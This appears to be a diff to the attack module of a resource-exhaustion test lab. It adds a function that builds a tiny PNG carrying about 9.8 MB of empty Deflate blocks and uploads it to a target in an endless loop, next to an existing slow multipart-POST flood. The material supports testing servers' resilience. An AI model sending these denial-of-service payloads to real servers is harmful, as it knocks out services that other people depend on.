@@ -9,8 +9,10 @@ import re
 import signal
 import socket
 import sqlite3
+import struct
 import subprocess
 import time
+import zlib
 
 from connections import of_many_blocks
 from lab import attack
@@ -141,6 +143,35 @@ def stalled_texts(target):
     head = f"POST {page}/message HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=a\r\nContent-Length: 33000\r\n\r\n"
     part = '--a\r\nContent-Disposition: form-data; name="note"\r\n\r\n' + "b" * 32_000
     of_many_blocks(target, 4000, (head + part).encode())
+
+
+def empty_blocks_png():
+    """A PNG of 16 by 16 pixels whose 9.8 MB are Deflate blocks with a code of their own and nothing in it."""
+
+    def chunk(name, content):
+        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
+
+    eight_blocks = base64.b64decode(
+        "7N2BAAAAAACQ/2q+ZO8OBAAAAACA/FfzJXt3IAAAAAAA5L+aL9m7AwEAAAAAIP/VfMneHQgA"
+        "AAAAAPmv5kv27kAAAAAAAMh/NV+ydwcCAAAAAED+q/mSvTsQAAAAAADyX82X"
+    )
+    pixels = zlib.compressobj(wbits=-15)
+    data = b"\x78\x01" + eight_blocks * 99_000 + pixels.compress(bytes(16 * 17)) + pixels.flush()
+    data += struct.pack(">I", zlib.adler32(bytes(16 * 17)))
+    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 0))
+    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", data) + chunk(b"IEND", b"")
+
+
+@attack("PNGs of empty blocks", {"cpu": 200}, {"cpu": 1400}, options=proxy, is_quick=False)
+def empty_blocks(target):
+    image = empty_blocks_png()
+    attacker = Attacker(target)
+    attacker.begin()
+    target.is_under_way.set()
+    while True:
+        status = attacker.upload(image, "a.png")
+        if status != 303:
+            fail(f"the photo is answered with {status}")
 
 
 def stalled_upload(target, address, length):
